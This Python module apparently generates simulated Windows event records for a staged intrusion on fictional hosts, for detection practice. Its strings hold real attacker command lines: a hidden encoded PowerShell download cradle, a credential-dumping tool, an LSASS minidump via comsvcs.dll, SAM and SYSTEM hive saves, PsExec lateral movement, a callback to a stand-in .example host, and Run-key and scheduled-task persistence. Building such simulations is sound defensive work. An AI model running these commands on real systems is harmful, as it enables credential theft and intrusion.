"""An intrusion on the made-up Windows endpoints: a mail attachment on one, then on to a second.

Text only: commands lead nowhere (addresses are of documentation ranges), nothing is ever executed.
"""

import random
from dataclasses import dataclass
from datetime import datetime, timedelta

from logster.demo_host import Process, WindowsHost, encoded_command
from logster.demo_records import Account

__all__ = ["Intrusion", "intrude"]

_SYSTEM32 = "C:\\Windows\\System32\\"
_POWERSHELL = f"{_SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_SHELL_LIBRARIES = (f"{_SYSTEM32}mscoree.dll", f"{_SYSTEM32}amsi.dll", f"{_SYSTEM32}winhttp.dll")


@dataclass(frozen=True)
class Intrusion:
    """What of an intrusion differs from one to the next."""

    server: str
    address: str
    tool: str
    service: str
    document: str
    stolen: str

    @classmethod
    def drawn(cls, seed: str) -> "Intrusion":
        """Draw one; the same seed gives the same."""
        rng = random.Random(seed)
        return cls(
            server=f"{rng.choice(('cdn', 'files', 'static', 'sync'))}.{rng.choice(('brightway', 'northlake'))}.example",
            address=f"203.0.113.{rng.randrange(5, 250)}",
            tool=f"{rng.choice(('winhlp', 'dispsvc', 'audiosrv', 'netmon'))}{rng.randrange(10, 99)}.exe",
            service=f"{rng.choice(('Update', 'Print', 'Telemetry'))}Helper{rng.randrange(100, 999)}",
            document=f"{rng.choice(('Invoice', 'Contract', 'Reminder'))}_{rng.randrange(10000, 99999)}.docm",
            stolen=rng.choice(("svc-deploy", "adm.backup", "it.desk")),
        )


def intrude(first: WindowsHost, second: WindowsHost, at: datetime, plan: Intrusion) -> None:
    """Play an intrusion of about two minutes; the second endpoint is reached some 40 s after the first macro."""
    shell = _run_macro(first, at, plan)
    _discover(first, shell, at + timedelta(seconds=9))
    _read_lsass(first, shell, at + timedelta(seconds=22), plan)
    stolen = first.account(plan.stolen)
    _move(first, second, shell, at + timedelta(seconds=36), plan, stolen)
    _stay(first, shell, at + timedelta(seconds=70), plan)


def _run_macro(host: WindowsHost, at: datetime, plan: Intrusion) -> Process:
    folder = f"{host.profile}\\Downloads\\"
    libraries = (
        "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL", f"{_SYSTEM32}wbem\\wbemdisp.dll"
    )  # fmt: skip
    arguments = f'/n "{folder}{plan.document}" /o ""'
    word = host.start(at, host.roots["explorer"], _WORD, arguments, folder=folder, loads=libraries)
    trust = (
        f"HKU\\{host.user.sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\"
    )
    host.set_value(at + timedelta(seconds=2), word, f"{trust}%USERPROFILE%/Downloads/{plan.document}", "Binary Data")
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{plan.server}/start')"
    began = at + timedelta(seconds=3)
    arguments = f"-nop -w hidden -enc {encoded_command(script)}"
    shell = host.start(began, word, _POWERSHELL, arguments, folder=folder, loads=_SHELL_LIBRARIES)
    host.run_script(began + timedelta(milliseconds=700), shell, script)
    host.resolve(began + timedelta(milliseconds=900), shell, plan.server, plan.address)
    host.connect(began + timedelta(milliseconds=1000), shell, plan.address, 80, plan.server)
    tool = f"C:\\Users\\Public\\{plan.tool}"
    script = f"(New-Object Net.WebClient).DownloadFile('http://{plan.server}/{plan.tool}', '{tool}')"
    host.run_script(began + timedelta(milliseconds=2500), shell, script)
    host.connect(began + timedelta(milliseconds=2700), shell, plan.address, 80, plan.server)
    host.write(began + timedelta(milliseconds=3400), shell, tool)
    return shell


def _discover(host: WindowsHost, shell: Process, at: datetime) -> None:
    commands = (
        ("whoami.exe", "/all"), ("net.exe", 'group "Domain Admins" /domain'), ("nltest.exe", "/dclist:"),
        ("net.exe", "view /all"), ("ipconfig.exe", "/all"), ("systeminfo.exe", ""),
    )  # fmt: skip
    for name, arguments in commands:
        step = host.start(at, shell, _SYSTEM32 + name, arguments, folder="C:\\Users\\Public\\")
        if name == "net.exe":
            inner = host.start(at + timedelta(milliseconds=60), step, f"{_SYSTEM32}net1.exe", arguments)
            host.stop(at + timedelta(milliseconds=600), inner)
        host.stop(at + timedelta(milliseconds=700), step)
        at += timedelta(milliseconds=host.rng.randrange(1300, 2100))


def _read_lsass(host: WindowsHost, shell: Process, at: datetime, plan: Intrusion) -> None:
    lsass, tool = host.roots["lsass"], f"C:\\Users\\Public\\{plan.tool}"
    libraries = (f"{_SYSTEM32}samlib.dll", f"{_SYSTEM32}vaultcli.dll", f"{_SYSTEM32}dbghelp.dll")
    reader = host.start(at, shell, tool, "privilege::debug logon::list exit", integrity="High", loads=libraries)
    for step, mask in enumerate(("0x1010", "0x1410", "0x1fffff")):
        moment = at + timedelta(milliseconds=800 + 400 * step)
        host.access(moment, reader, lsass, mask, f"UNKNOWN(0000{host.rng.randrange(16**11, 16**12):X})")
    host.write(at + timedelta(seconds=3), reader, "C:\\Users\\Public\\notes.tmp")
    host.stop(at + timedelta(seconds=4), reader)
    began = at + timedelta(seconds=6)
    arguments = f"{_SYSTEM32}comsvcs.dll, MiniDump {lsass.pid} C:\\Users\\Public\\d.tmp full"
    dump = host.start(
        began, shell, f"{_SYSTEM32}rundll32.exe", arguments, integrity="High",
        loads=(f"{_SYSTEM32}comsvcs.dll", f"{_SYSTEM32}dbgcore.dll"),
    )  # fmt: skip
    host.access(began + timedelta(milliseconds=500), dump, lsass, "0x1fffff", f"{_SYSTEM32}dbgcore.dll+6c1a")
    host.write(began + timedelta(seconds=1), dump, "C:\\Users\\Public\\d.tmp")
    host.stop(began + timedelta(seconds=3), dump)


def _move(
    first: WindowsHost, second: WindowsHost, shell: Process, at: datetime, plan: Intrusion, stolen: Account
) -> None:  # fmt: skip
    first.write(at - timedelta(seconds=1), shell, "C:\\Users\\Public\\PsExec64.exe")
    arguments = f"\\\\{second.name} -accepteula -u {stolen.user} -s cmd.exe"
    sender = first.start(at, shell, "C:\\Users\\Public\\PsExec64.exe", arguments, integrity="High")
    first.use_credentials(at + timedelta(milliseconds=400), sender, stolen, second.computer)
    first.connect(at + timedelta(milliseconds=500), sender, second.address, 445, second.computer)
    first.connect(at + timedelta(milliseconds=600), sender, second.address, 135, second.computer)
    account = second.account(stolen.name)
    second.log_on(at + timedelta(milliseconds=700), account, 3, address=first.address, is_admin=True)
    program = f"{plan.service}.exe"
    second.open_share(at + timedelta(milliseconds=900), account, first.address, "ADMIN$", program, "0x17019f")
    second.open_share(at + timedelta(milliseconds=1000), account, first.address, "IPC$", "svcctl", "0x12019f")
    services = second.roots["services"]
    second.set_value(
        at + timedelta(milliseconds=1300), services,
        f"HKLM\\System\\CurrentControlSet\\Services\\{plan.service}\\ImagePath", f"%SystemRoot%\\{program}",
    )  # fmt: skip
    second.install_service(at + timedelta(milliseconds=1400), account, plan.service, f"%SystemRoot%\\{program}")
    began = at + timedelta(seconds=2)
    service = second.start(began, services, f"C:\\Windows\\{program}", command_line=f"C:\\Windows\\{program}")
    command = second.start(began + timedelta(seconds=1), service, f"{_SYSTEM32}cmd.exe", "/Q /c start.cmd")
    script = f"$c = New-Object Net.Sockets.TcpClient('{plan.server}', 443); $s = $c.GetStream()"
    began += timedelta(seconds=2)
    arguments = f"-nop -noni -w hidden -ep bypass -enc {encoded_command(script)}"
    inner = second.start(began, command, _POWERSHELL, arguments, loads=_SHELL_LIBRARIES)
    second.run_script(began + timedelta(milliseconds=600), inner, script)
    second.resolve(began + timedelta(milliseconds=700), inner, plan.server, plan.address)
    second.connect(began + timedelta(milliseconds=800), inner, plan.address, 443, plan.server)
    moment = began + timedelta(seconds=5)
    for name, arguments in (
        ("whoami.exe", ""), ("net.exe", "localgroup administrators"), ("quser.exe", ""),
        ("reg.exe", "save HKLM\\SAM C:\\Windows\\Temp\\s.tmp"),
        ("reg.exe", "save HKLM\\SYSTEM C:\\Windows\\Temp\\y.tmp"),
    ):  # fmt: skip
        step = second.start(moment, inner, _SYSTEM32 + name, arguments)
        if name == "reg.exe":
            second.write(moment + timedelta(milliseconds=300), step, arguments.rsplit(" ", 1)[1])
        second.stop(moment + timedelta(milliseconds=700), step)
        moment += timedelta(milliseconds=second.rng.randrange(1500, 3000))
    called_from = f"UNKNOWN(0000{second.rng.randrange(16**11, 16**12):X})"
    second.access(moment, inner, second.roots["lsass"], "0x1010", called_from)
    arguments = f'/create /tn "\\{plan.service}" /tr "C:\\Windows\\{program}" /sc onlogon /ru SYSTEM /f'
    task = second.start(moment + timedelta(seconds=3), inner, f"{_SYSTEM32}schtasks.exe", arguments)
    second.create_task(
        moment + timedelta(seconds=4), second.machine_account, plan.service, f"C:\\Windows\\{program}", ""
    )
    file = f"{_SYSTEM32}Tasks\\{plan.service}"
    second.write(moment + timedelta(milliseconds=4100), second.roots["schedule"], file)
    second.stop(moment + timedelta(seconds=5), task)
    for delay in (15, 30, 45):
        second.connect(moment + timedelta(seconds=delay), inner, plan.address, 443, plan.server)
    first.stop(moment + timedelta(seconds=6), sender)


def _stay(host: WindowsHost, shell: Process, at: datetime, plan: Intrusion) -> None:
    key = f"HKU\\{host.user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
    command = f"C:\\Users\\Public\\{plan.tool} -s"
    arguments = f'add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {plan.service} /d "{command}" /f'
    step = host.start(at, shell, f"{_SYSTEM32}reg.exe", arguments)
    host.set_value(at + timedelta(milliseconds=200), step, f"{key}\\{plan.service}", command)
    host.stop(at + timedelta(milliseconds=300), step)
    began = at + timedelta(seconds=6)
    arguments = f'/create /tn "{plan.service}" /tr "{command}" /sc minute /mo 30 /f'
    task = host.start(began, shell, f"{_SYSTEM32}schtasks.exe", arguments)
    host.create_task(began + timedelta(milliseconds=400), host.user, plan.service, command, "")
    host.write(began + timedelta(milliseconds=450), host.roots["schedule"], f"{_SYSTEM32}Tasks\\{plan.service}")
    host.stop(began + timedelta(milliseconds=800), task)
    for delay in (10, 20, 35):
        host.connect(began + timedelta(seconds=delay), shell, plan.address, 80, plan.server)
    wipe = host.start(began + timedelta(seconds=37), shell, f"{_SYSTEM32}cmd.exe", '/c del "C:\\Users\\Public\\d.tmp"')
    host.stop(began + timedelta(seconds=38), wipe)
    host.stop(began + timedelta(seconds=40), shell)
